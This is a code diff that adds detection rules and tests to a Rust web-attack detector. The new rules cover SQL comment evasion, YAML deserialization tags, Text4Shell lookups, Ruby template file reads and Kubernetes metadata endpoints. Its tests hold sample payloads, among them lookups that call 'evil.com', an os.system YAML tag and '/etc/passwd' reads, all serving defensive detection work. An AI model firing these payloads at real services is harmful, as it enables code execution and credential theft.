@@ -250,6 +250,16 @@ static RULES: &[Rule] = &[
         r#"(?:^|(?:^|[^\w.@])[\w.@]*[\w.@&&[^rbfu]]|[\w.@]{3})'\s*[-=&^*|]\s*'\s*$"#,
     ),
     rule("sqli-mysql-comment", Sqli, 5, Plain, r"/\*!\d*\s*\w"),
+    // An inline comment standing for the space next to an SQL keyword, with nothing between
+    // them (`SeLeCt/**/password/**/FrOm/**/users`, sqlmap's `space2comment`): a filter
+    // evasion, since code and prose that comment put a space around the comment.
+    rule(
+        "sqli-comment-as-space",
+        Sqli,
+        5,
+        Plain,
+        r"\b(?:select|union|from|where|insert|update|delete|drop|order|group|having|and|or|not|sleep|benchmark|waitfor|exec)/\*[^*]*\*/[\w@('\x22]|[\w)'\x22]/\*[^*]*\*/(?:select|union|from|where|and|or|order|group|having|sleep|benchmark|waitfor|exec)\b",
+    ),
     rule(
         "sqli-char-chain",
         Sqli,
@@ -398,6 +408,15 @@ static RULES: &[Rule] = &[
         Plain,
         r"<\s*xi\s*:\s*include\b[^>]*\bhref\s*=",
     ),
+    // YAML tags that make a deserializer build an object of any class: Python's
+    // `!!python/object/apply:os.system`, Ruby's `!ruby/object:`, and SnakeYAML's gadget classes.
+    rule(
+        "rce-yaml-object-tag",
+        Rce,
+        5,
+        Plain,
+        r"!!python/(?:object(?:/apply|/new)?|name|module)\s*:|!ruby/(?:object|hash|struct|class)\s*:|!!(?:javax\.script\.scriptenginemanager|com\.sun\.rowset\.jdbcrowsetimpl|java\.net\.urlclassloader)\b",
+    ),
     // Remote file inclusion and server-side request forgery. Java's URL class also reads a
     // scheme behind `url:` (`url:file:///etc/passwd`), and Python's urllib read
     // `local_file://` as `file://` (CVE-2019-9948).
@@ -408,12 +427,14 @@ static RULES: &[Rule] = &[
         Plain,
         r"^\s*(?:url:\s*)?(?:file:/|local_file:|gopher://|dict://|ldaps?://|jar:|netdoc:|tftp://|sftp://|glob://|ssh2\.\w+://|compress\.(?:zlib|bzip2)://|ogg://|rar://)",
     ),
+    // The cloud metadata services, which hand out the host's credentials, and the API server a
+    // Kubernetes pod reaches by name (`http://kubernetes.default.svc/api/v1/secrets`).
     rule(
         "rfi-metadata-endpoint",
         Rfi,
         5,
         Plain,
-        r"//instance-data(?:[:/?#]|$)|(?:^|[\s=@/])(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|\[?fd00:ec2::254\]?|metadata\.azure\.com)\b|(?://|@)(?:2852039166|0xa9fea9fe|\[(?:0*:)*:?ffff:(?:169\.254\.169\.254|a9fe:a9fe)\])(?:[:/?#]|$)",
+        r"//(?:instance-data|kubernetes\.default(?:\.svc(?:\.cluster\.local)?)?)(?:[:/?#]|$)|(?:^|[\s=@/])(?:169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|\[?fd00:ec2::254\]?|metadata\.azure\.com)\b|(?://|@)(?:2852039166|0xa9fea9fe|\[(?:0*:)*:?ffff:(?:169\.254\.169\.254|a9fe:a9fe)\])(?:[:/?#]|$)",
     ),
     rule(
         "rfi-loopback-url",
@@ -696,6 +717,16 @@ static RULES: &[Rule] = &[
         Lookup,
         r"\$\{\s*jndi\s*:|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
     ),
+    // Apache Commons Text's interpolation (Text4Shell, CVE-2022-42889) runs a script, asks a
+    // DNS server, fetches a URL or reads a file: `${script:javascript:…}`, `${dns:address|x}`,
+    // `${url:UTF-8:http://…}`, `${file:UTF-8:/etc/passwd}`.
+    rule(
+        "java-text-interpolation",
+        Java,
+        5,
+        Lookup,
+        r"\$\{\s*(?:script\s*:\s*[a-z]+\s*:|dns\s*:[^}]*\||url\s*:\s*[\w-]+\s*:\s*[a-z]+:|file\s*:\s*[\w-]+\s*:)",
+    ),
     rule(
         "java-log4j-lookup",
         Java,
@@ -756,6 +787,17 @@ static RULES: &[Rule] = &[
         Plain,
         r"(?:\{\{|\{%|\$\{|#\{)[^}]*__[a-z]+__|__(?:class|base)__\s*\.\s*__(?:mro|subclasses|bases|base)__|__(?:subclasses|globals|builtins|mro)__|__import__\s*\(\s*['\x22](?:os|subprocess)|\b(?:eval|exec)\s*\(\s*compile\s*\(",
     ),
+    // A Ruby template expression (ERB's `<%= %>`, an interpolation `#{}`) that reads the file
+    // system from its root, a home or a parent directory: `<%= File.read("/etc/passwd") %>`,
+    // `<%= Dir.entries("/") %>`. A template reading a relative name (`#{File.read('a.yml')}`) is
+    // what Ruby code in a question looks like.
+    rule(
+        "ssti-ruby-file-read",
+        Ssti,
+        5,
+        Plain,
+        r#"(?:<%=?|#\{)\s*(?:file|io|dir)\s*\.\s*(?:read|readlines|binread|foreach|entries|children|glob|open|new|write|delete)\s*\(\s*['"]\s*(?:/|\.\./|~|[a-z]:[\\/])"#,
+    ),
     // Jinja's globals and filters that reach Python objects (`{{config.items()}}`,
     // `{{range.__init__}}`); Go's `{{range .Items}}`, a loop, is no such global.
     rule(
@@ -791,17 +833,17 @@ static RULES: &[Rule] = &[
         Plain,
         r"__proto__|\bconstructor\s*[.\[]\s*['\x22]?prototype\b|['\x22]constructor['\x22]\s*:\s*\{\s*['\x22]prototype['\x22]\s*:",
     ),
-    // XPath injection: the value's first quote closes a predicate and joins another path to
-    // the query (`'] | //user/*[contains(*,'`), or adds a condition on the document's
-    // structure, which only an attacker mapping an unseen XML document asks for (`' and
-    // count(/*)=1 and '1'='1`, `') and starts-with(../password,'c`). An XPath expression
-    // quoted whole closes its own quotes first (`//user[name='bob'] | //admin`).
+    // XPath injection: a quote that no quoted word opened closes a predicate and joins
+    // another path to the query (`'] | //user/*[contains(*,'`), or adds a condition on the
+    // document's structure, which only an attacker mapping an unseen XML document asks for
+    // (`' and count(/*)=1 and '1'='1`, `') and starts-with(../password,'c`). An XPath
+    // expression quoted whole closes a quoted word there (`//user[name='bob'] | //admin`).
     rule(
         "nosql-xpath-breakout",
         Nosql,
         5,
         Plain,
-        r#"^[^'"]*['"]\s*\)?\s*(?:\]\s*\|\s*/|(?:and|or)\s+(?:count|name|local-name|string-length|substring|contains|starts-with|normalize-space|translate)\s*\(\s*(?:name\s*\(\s*)?(?:\.\./|/|@\*|child::|comment\(\)))"#,
+        r#"(?:^|[^'"\w])\w*['"]\s*\)?\s*(?:\]\s*\|\s*/|(?:and|or)\s+(?:count|name|local-name|string-length|substring|contains|starts-with|normalize-space|translate)\s*\(\s*(?:name\s*\(\s*)?(?:\.\./|/|@\*|child::|comment\(\)))"#,
     ),
     // NoSQL operator injection written into a value (keys are checked structurally).
     rule(
@@ -1900,6 +1942,74 @@ mod tests {
                 "it's 'a] | b' in the docs",
                 "pick 'x' or count (the rest)",
                 "select nodes with //user[name='bob'] | //admin",
+            ],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "ssti-ruby-file-read",
+            &[
+                "<%= file.read(\"/etc/passwd\") %>",
+                "#{file.read(\"/etc/passwd\")}",
+                "<%= dir.entries(\"/\") %>",
+                "<%= io.readlines('../../config/database.yml') %>",
+            ],
+            &[
+                "puts \"contents: #{file.read('config.yml')}\"",
+                "file.read(\"/etc/hosts\") in ruby returns a string",
+            ],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "sqli-comment-as-space",
+            &[
+                "select/**/password/**/from/**/users",
+                "1/**/and/**/1=1",
+                "1'/**/or/**/'1'='1",
+                "x)/**/union/**/select/**/1",
+            ],
+            &[
+                "select /* all */ name from t",
+                "x = y; /* and */ z",
+                "a/**/b in css",
+                "return x;/* or */",
+            ],
+        );
+        assert_finds(
+            Forms::of(Form::Lookup),
+            "java-text-interpolation",
+            &[
+                "${script:javascript:java.lang.runtime.getruntime().exec('id')}",
+                "${dns:address|evil.com}",
+                "${url:utf-8:http://evil.com/}",
+                "${file:utf-8:/etc/passwd}",
+            ],
+            &["${script}", "${url}", "${file.name}", "${dns_server}"],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "rce-yaml-object-tag",
+            &[
+                "!!python/object/apply:os.system [\"id\"]",
+                "!!python/object/new:subprocess.check_output [[\"id\"]]",
+                "--- !ruby/object:gem::installer",
+                "!!javax.script.scriptenginemanager [!!java.net.urlclassloader [[!!java.net.url [\"http://x/\"]]]]",
+            ],
+            &[
+                "!!str 42",
+                "!!python is a tag prefix",
+                "tags like !ruby are rare",
+            ],
+        );
+        assert_finds(
+            Forms::PLAIN,
+            "rfi-metadata-endpoint",
+            &[
+                "http://kubernetes.default.svc/api/v1/namespaces",
+                "https://kubernetes.default:443/api",
+            ],
+            &[
+                "the kubernetes.default service",
+                "http://kubernetes.default.example.com/",
             ],
         );
         assert_finds(
